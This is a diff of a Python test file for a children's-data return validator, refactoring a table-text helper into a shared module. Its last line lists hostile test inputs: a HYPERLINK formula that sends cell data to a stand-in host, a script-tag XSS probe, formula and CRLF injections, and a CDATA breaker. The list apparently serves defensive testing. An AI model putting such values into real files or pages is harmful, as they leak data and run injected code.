@@ -11,7 +11,6 @@ from dataclasses import replace
 import pytest
 
 from lac_validator import Return, apply, propose, validate
-from lac_validator.dataset import NotGiven
 from lac_validator.engine import ADD, CERTAIN, REMOVE, Proposal
 from lac_validator.ingest import InputFile, Intake
 from lac_validator.report import Errors, Made, is_pack
@@ -23,8 +22,7 @@ from lac_validator.report.content.keys import ErrorKeys
 from lac_validator.sample import SampleReturn, generate
 from tests.ingest.forms import as_an_xml_has_them, as_xml
 from tests.report.made import AT, book, make, members, rows_of
-
-Texts = dict[str, dict[str, list[str]]]
+from tests.texts import texts_of
 
 
 @pytest.fixture(scope="module")
@@ -48,18 +46,6 @@ def accepting(ret: Return) -> Correction:
         (each for each in proposals if each.ways > 1 and (each.into or each.table).endswith("_last")), None
     )
     return Correction(errors, proposals, accept([*chosen, *filter(None, [amendment])], "Jo Bloggs", AT))
-
-
-def texts(ret: Return) -> Texts:
-    found: Texts = {}
-    for name, table in ret.tables.items():
-        found[name] = {}
-        for column in table.column_names:
-            try:
-                found[name][column] = table.column(column).as_given
-            except NotGiven:
-                continue
-    return found
 
 
 def csv_rows(made: Made) -> list[dict[str, str]]:
@@ -166,7 +152,7 @@ def test_the_corrected_tables_are_as_read_but_for_the_changes(correction: Correc
     files = corrected_files(correction)
     assert {name.split("/")[0] for name in files} == {"corrected", "corrected_last_year"}
     read = read_again(files, correction.errors.ret)
-    before, after, expected = (texts(each) for each in (correction.errors.ret, read, correction.after.ret))
+    before, after, expected = (texts_of(each) for each in (correction.errors.ret, read, correction.after.ret))
     named = {(each.table, each.row, each.column): each.new for each in correction.chosen if each.column}
     removed = {(each.table, each.row) for each in correction.chosen if each.action == REMOVE}
     added = {each.into for each in correction.chosen if each.action == ADD}
@@ -213,15 +199,15 @@ def test_xml_comes_back_as_one_xml(sample: SampleReturn) -> None:
     assert set(files) == {"corrected/SSDA903.xml", "corrected_last_year/SSDA903.xml"}
     read = read_again(files, correction.errors.ret)
     assert read.file_format == "xml"
-    expected, found = texts(correction.after.ret), texts(read)
+    expected, found = texts_of(correction.after.ret), texts_of(read)
     for name, columns in expected.items():
         assert sorted(zip(*columns.values(), strict=True)) == sorted(zip(*found[name].values(), strict=True))
     assert validate(read).count == len(correction.after.after)
     assert make_corrected(correction).data == files["corrected/SSDA903.xml"].data
     unchanged = Correction(correction.errors, correction.proposals, {})
     read = read_again(corrected_files(unchanged), correction.errors.ret)
-    this_year = {name: columns for name, columns in texts(correction.errors.ret).items() if "_last" not in name}
-    assert texts(read) == this_year
+    this_year = {name: columns for name, columns in texts_of(correction.errors.ret).items() if "_last" not in name}
+    assert texts_of(read) == this_year
 
 
 def test_an_xml_holds_one_date_of_birth_of_a_child() -> None:
@@ -241,7 +227,7 @@ def test_an_xml_holds_one_date_of_birth_of_a_child() -> None:
     assert {tables[name].DOB.as_given[0] for name in ("Header", "Reviews", "UASC")} == {"02/02/2012"}
     assert {code for code, _, _ in correction.after.new} & {"INT11", "INT12", "INT13", "INT14"} == set()
     read = read_again(corrected_files(correction), errors.ret)
-    assert texts(read) == texts(correction.after.ret)
+    assert texts_of(read) == texts_of(correction.after.ret)
 
 
 HOSTILE = ('=HYPERLINK("http://x/?"&A1)', "<script>alert(1)</script>", "@SUM(1)", "a\r\n=1+1", "]]>&amp;", "\x00\x1b")
